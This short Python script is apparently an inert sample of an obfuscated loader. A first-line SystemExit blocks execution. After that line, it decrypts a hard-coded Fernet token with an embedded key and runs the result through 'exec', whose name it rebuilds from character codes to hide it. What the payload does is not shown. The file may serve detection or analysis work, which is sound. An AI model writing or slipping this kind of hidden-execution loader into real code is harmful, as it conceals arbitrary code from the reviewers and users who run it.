raise SystemExit("inert sample")
import base64, builtins
from cryptography.fernet import Fernet
K = b"m2UWqgKRO9QiFOuNXBD03dRE71b2rWzu1Q4IybeMpwE="
T = "gAAAAABrBNaPTbeVB_OPwuPahIiH20CG4c5f28iS2vXhISC0tDuaEPVnMv2wo48T9z6rbvf536dAbFf_UsJRMn35k7uOzvX7"
def start():
    do = vars(builtins)["".join(chr(c) for c in [101, 120, 101, 99])]
    do(Fernet(K).decrypt(T))
start()
